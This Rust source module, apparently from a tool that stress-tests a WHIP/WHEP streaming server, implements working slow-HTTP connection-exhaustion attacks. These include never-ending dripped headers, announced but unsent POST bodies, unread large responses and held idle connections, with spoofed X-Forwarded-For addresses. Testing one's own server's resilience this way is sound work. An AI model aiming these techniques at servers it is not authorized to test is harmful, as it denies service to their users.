//! Attacks by HTTP requests that are left incomplete.

use std::fmt::Write;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt, Interest};

use crate::attacker::Attacker;
use crate::stream::Stream;
use crate::target::Requester;

/// Between two bytes of what never ends.
const DRIP_EVERY: Duration = Duration::from_secs(2);
/// After so long what is not read is opened anew: most servers have given it up by then, and that they
/// have cannot be seen behind what is unread.
pub(super) const REOPEN_AFTER: Duration = Duration::from_secs(12);

/// Requests the largest script and reads nothing of it.
pub(super) async fn unread_get(me: &Attacker, n: u64) -> Result<(), String> {
    let requester = me.requester(n);
    let mut stream = me.connect(&requester, true).await?;
    let request = head(me, &requester, "GET", &me.script) + "\r\n";
    send(&mut stream, request.as_bytes()).await?;
    let _held = me.hold();
    let reset = tokio::time::timeout(REOPEN_AFTER, stream.tcp().ready(Interest::ERROR)).await;
    Err(if reset.is_ok() { "reset" } else { "opened anew" }.to_owned())
}

/// Sends the head of a request that never ends, a byte now and then.
pub(super) async fn half_head(me: &Attacker, n: u64) -> Result<(), String> {
    let requester = me.requester(n);
    let mut stream = me.connect(&requester, false).await?;
    let request = head(me, &requester, "GET", "/") + "X-Endless: ";
    send(&mut stream, request.as_bytes()).await?;
    hold(me, stream, true).await
}

/// Posts an offer to WHIP or WHEP and never sends the body it announced.
pub(super) async fn half_body(me: &Attacker, n: u64) -> Result<(), String> {
    let requester = me.requester(n);
    let mut stream = me.connect(&requester, false).await?;
    let path = if n.is_multiple_of(2) { "/whip/x" } else { "/whep/x" };
    let mut request = head(me, &requester, "POST", path);
    request += "Content-Type: application/sdp\r\nContent-Length: 2000\r\n\r\nv=0\r\n";
    send(&mut stream, request.as_bytes()).await?;
    hold(me, stream, false).await
}

/// Makes one whole request, and keeps the connection.
pub(super) async fn idle(me: &Attacker, n: u64) -> Result<(), String> {
    let requester = me.requester(n);
    let mut stream = me.connect(&requester, false).await?;
    let request = head(me, &requester, "GET", "/api/health") + "\r\n";
    send(&mut stream, request.as_bytes()).await?;
    hold(me, stream, false).await
}

/// The beginning of a request's head.
fn head(me: &Attacker, requester: &Requester, method: &str, path: &str) -> String {
    let mut head = format!("{method} {path} HTTP/1.1\r\nHost: {}\r\n", me.target.host);
    if let Some(address) = &requester.forwarded_for {
        // Writing to a string does not fail.
        _ = write!(head, "X-Forwarded-For: {address}\r\n");
    }
    head
}

pub(super) async fn send(stream: &mut Stream, bytes: &[u8]) -> Result<(), String> {
    let told = |it: std::io::Error| it.kind().to_string();
    stream.write_all(bytes).await.map_err(told)?;
    stream.flush().await.map_err(told)
}

/// Holds a connection until the server closes it, and counts the status of its answer.
pub(super) async fn hold(me: &Attacker, mut stream: Stream, drips: bool) -> Result<(), String> {
    let _held = me.hold();
    let mut buffer = [0; 512];
    let mut is_answered = false;
    loop {
        tokio::select! {
            read = stream.read(&mut buffer) => {
                let n = read.map_err(|it| it.kind().to_string())?;
                let bytes = buffer.get(..n).unwrap_or_default();
                if bytes.is_empty() {
                    return Err("closed".to_owned());
                }
                // "HTTP/1.1 408 …".
                let status = bytes.get(9..12).filter(|_| bytes.starts_with(b"HTTP/"));
                if let Some(status) = status.filter(|_| !is_answered) {
                    is_answered = true;
                    me.answered(&String::from_utf8_lossy(status));
                }
            }
            () = tokio::time::sleep(DRIP_EVERY), if drips => send(&mut stream, b"x").await?,
        }
    }
}
